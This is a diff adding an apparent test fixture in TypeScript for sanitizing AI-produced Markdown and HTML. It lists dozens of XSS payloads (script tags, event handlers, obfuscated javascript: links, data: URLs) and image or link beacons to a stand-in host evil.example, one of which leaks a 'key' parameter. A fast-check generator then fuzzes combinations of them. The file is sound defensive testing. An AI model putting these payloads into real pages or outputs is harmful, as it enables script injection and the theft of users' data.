@@ -1,0 +1,97 @@
+import fc from 'fast-check';
+
+const EVIL = 'https://evil.example';
+
+/** Texts that a tampered or tricked AI might send; each tries to run, fetch or leave. */
+export const PAYLOADS: readonly string[] = [
+  '<script>tripped()</script>',
+  '<script src="https://evil.example/x.js"></script>',
+  '<img src=x onerror="tripped()">',
+  `<img src="${EVIL}/pixel.png">`,
+  `![pixel](${EVIL}/pixel.png)`,
+  `![pixel][p]\n\n[p]: ${EVIL}/pixel.png`,
+  `![](${EVIL}/?key=leak "title")`,
+  '<svg onload="tripped()"><script>tripped()</script></svg>',
+  '<svg><animate onbegin="tripped()" attributeName="x" dur="1s"></svg>',
+  '<iframe srcdoc="<script>parent.tripped()</script>"></iframe>',
+  `<iframe src="${EVIL}"></iframe>`,
+  '<object data="javascript:tripped()"></object>',
+  `<embed src="${EVIL}">`,
+  `<link rel="stylesheet" href="${EVIL}/x.css">`,
+  `<style>@import url(${EVIL}/x.css); * { background: url(${EVIL}/b) }</style>`,
+  `<base href="${EVIL}/">`,
+  `<meta http-equiv="refresh" content="0;url=${EVIL}">`,
+  '<form action="javascript:tripped()"><button autofocus onfocus="tripped()">x</button></form>',
+  '<input autofocus onfocus="tripped()">',
+  '<details open ontoggle="tripped()"><summary>x</summary></details>',
+  '<video><source onerror="tripped()"></video>',
+  `<audio src="${EVIL}/a.mp3" autoplay></audio>`,
+  '<body onload="tripped()">',
+  '<math><mtext><table><mglyph><style><img src onerror="tripped()">',
+  '[click](javascript:tripped())',
+  '[click](JaVaScRiPt:tripped())',
+  '[click](java&#115;cript:tripped())',
+  '[click](\tjavascript:tripped())',
+  '[click](javascript&colon;tripped())',
+  '[click](data:text/html,<script>tripped()</script>)',
+  '[click](vbscript:tripped())',
+  '[click][j]\n\n[j]: javascript:tripped()',
+  '<javascript:tripped()>',
+  '<a href="javascript:tripped()">x</a>',
+  '[x](https://evil.example"onmouseover="tripped())',
+  '[a](<javascript:tripped()>)',
+  '```html\n<script>tripped()</script>\n```',
+  '| a | b |\n|---|---|\n| <img src=x onerror=tripped()> | ![x](https://evil.example/t.png) |',
+  '- [ ] <script>tripped()</script>\n- [x] ![x](//evil.example/p.png)',
+  '> <iframe src="//evil.example"></iframe>',
+  '&lt;script&gt;tripped()&lt;/script&gt;',
+  '<!--><img src=x onerror=tripped()>-->',
+  '<![CDATA[<img src=x onerror=tripped()>]]>',
+  '<x onclick=tripped() style="position:fixed;inset:0">x</x>',
+  '<noscript><p title="</noscript><img src=x onerror=tripped()>">',
+  '[^1]\n\n[^1]: <script>tripped()</script>',
+  'http://evil.example/auto <http://evil.example/angle> www.evil.example',
+];
+
+const piece = fc.oneof(
+  fc.constantFrom(...PAYLOADS),
+  fc.constantFrom(
+    '**',
+    '*',
+    '_',
+    '`',
+    '```',
+    '>',
+    '- ',
+    '1. ',
+    '# ',
+    '|',
+    '[',
+    ']',
+    '(',
+    ')',
+    '!',
+    '<',
+    '>',
+    '\\',
+  ),
+  fc.constantFrom(
+    '\n',
+    '\n\n',
+    '    ',
+    '\t',
+    '&#x3C;',
+    '\u0000',
+    '\u202E',
+    'javascript:',
+    'tripped()',
+    ' onerror=',
+  ),
+  fc.string({ maxLength: 12 }),
+);
+
+/** The same thousand texts on every run. */
+export function generatedTexts(count: number): string[] {
+  const texts = fc.array(piece, { minLength: 2, maxLength: 12 }).map((pieces) => pieces.join(''));
+  return fc.sample(texts, { numRuns: count, seed: 20_261_115 });
+}
